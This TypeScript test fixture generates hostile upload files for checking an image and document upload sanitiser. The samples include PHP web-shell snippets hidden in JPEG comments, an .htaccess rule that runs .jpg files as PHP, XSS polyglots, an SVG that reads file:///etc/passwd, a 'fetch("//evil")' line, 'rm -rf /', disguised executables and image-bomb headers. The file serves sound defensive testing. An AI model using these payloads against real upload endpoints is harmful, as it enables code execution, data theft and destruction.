import sharp from 'sharp'
import {
  docx,
  goodDocx,
  goodPdf,
  hostileDocx,
  hostilePdfs,
  type HostileFile,
} from './hostile-documents.ts'

const picture = (format: 'jpeg' | 'png' | 'gif' | 'tiff' | 'webp' | 'avif') =>
  sharp({ create: { width: 64, height: 48, channels: 3, background: '#004832' } })
    .toFormat(format)
    .toBuffer()

const [jpeg, png, gif, tiff, webp, avif] = await Promise.all([
  picture('jpeg'),
  picture('png'),
  picture('gif'),
  picture('tiff'),
  picture('webp'),
  picture('avif'),
])
const pictureWithLocation = await sharp(jpeg)
  .withExif({
    IFD0: { Artist: 'secret-artist' },
    IFD3: { GPSLatitude: '40/1 42/1 46/1', GPSLatitudeRef: 'N' },
  })
  .jpeg()
  .toBuffer()

/** A JPEG with an additional segment after its first marker. */
function withComment(text: string): Buffer {
  const length = Buffer.alloc(2)
  length.writeUInt16BE(text.length + 2)
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    length,
    Buffer.from(text),
    jpeg.subarray(2),
  ])
}

/** The picture with a larger declared size. */
function claiming(bytes: Buffer, at: number, [width, height]: readonly [number, number]): Buffer {
  const copy = Buffer.from(bytes)
  copy.writeUInt32BE(width, at)
  copy.writeUInt32BE(height, at + 4)
  return copy
}

function largeJpeg(): Buffer {
  const copy = Buffer.from(jpeg)
  const frame = copy.indexOf(Buffer.from([0xff, 0xc0]))
  copy.writeUInt16BE(65_000, frame + 5)
  copy.writeUInt16BE(65_000, frame + 7)
  return copy
}

/** Malicious files: each is refused, or stored without the malicious part. */
export const hostileFiles: readonly HostileFile[] = [
  { name: 'comment.jpg', bytes: withComment('<?php system($_GET[0]); ?>'), without: '<?php' },
  {
    name: 'script-comment.jpg',
    bytes: withComment('<script>alert(1)</script>'),
    without: '<script',
  },
  { name: 'archive-behind.jpg', bytes: Buffer.concat([jpeg, docx()]), without: 'PK\x03\x04' },
  {
    name: 'page-behind.jpg',
    bytes: Buffer.concat([jpeg, Buffer.from('<html><script>1</script>')]),
    without: '<script',
  },
  {
    name: 'program-behind.png',
    bytes: Buffer.concat([png, Buffer.from('MZ this program')]),
    without: 'MZ this',
  },
  {
    name: 'page-behind.webp',
    bytes: Buffer.concat([webp, Buffer.from('<html>here')]),
    without: '<html>',
  },
  { name: 'located.jpg', bytes: pictureWithLocation, without: 'secret-artist' },
  { name: 'shell.php.jpg', bytes: withComment('<?= `id` ?>'), without: '<?=' },
  { name: 'bomb.png', bytes: claiming(png, 16, [50_000, 50_000]) },
  { name: 'wide.png', bytes: claiming(png, 16, [2_000_000_000, 1]) },
  { name: 'bomb.jpg', bytes: largeJpeg() },
  { name: 'cut.jpg', bytes: jpeg.subarray(0, jpeg.length - 60) },
  { name: 'cut.png', bytes: png.subarray(0, png.length - 40) },
  {
    name: 'head-only.avif',
    bytes: Buffer.concat([avif.subarray(0, 40), Buffer.alloc(2000, 0xff)]),
  },
  {
    name: 'head-only.jpg',
    bytes: Buffer.concat([jpeg.subarray(0, 3), Buffer.from('<script>alert(1)</script>')]),
  },
  { name: 'head-only.webp', bytes: Buffer.from('RIFF\xff\xff\xff\xffWEBPVP8X0000', 'latin1') },
  { name: 'moving.gif', bytes: gif },
  { name: 'script.gif', bytes: Buffer.from('GIF89a/*\x01\x01*/=1;alert(1)', 'latin1') },
  { name: 'scan.tiff', bytes: tiff },
  { name: 'picture.bmp', bytes: Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]) },
  {
    name: 'drawing.svg',
    bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  },
  {
    name: 'drawing.png',
    bytes: Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    ),
  },
  { name: 'page.jpg', bytes: Buffer.from('<!doctype html><script>alert(1)</script>') },
  { name: 'script.png', bytes: Buffer.from('fetch("//evil")') },
  { name: 'shell.jpg', bytes: Buffer.from('<?php system("id");') },
  { name: '.htaccess', bytes: Buffer.from('AddType application/x-httpd-php .jpg') },
  {
    name: 'program.pdf',
    bytes: Buffer.concat([Buffer.from('\x7fELF\x02\x01', 'latin1'), Buffer.alloc(500)]),
  },
  { name: 'program.docx', bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]) },
  { name: 'run.sh.pdf', bytes: Buffer.from('#!/bin/sh\nrm -rf /') },
  ...hostilePdfs,
  ...hostileDocx,
]

/** Valid files. */
export const goodFiles = {
  jpeg,
  png,
  webp,
  avif,
  pdf: goodPdf,
  docx: goodDocx,
}
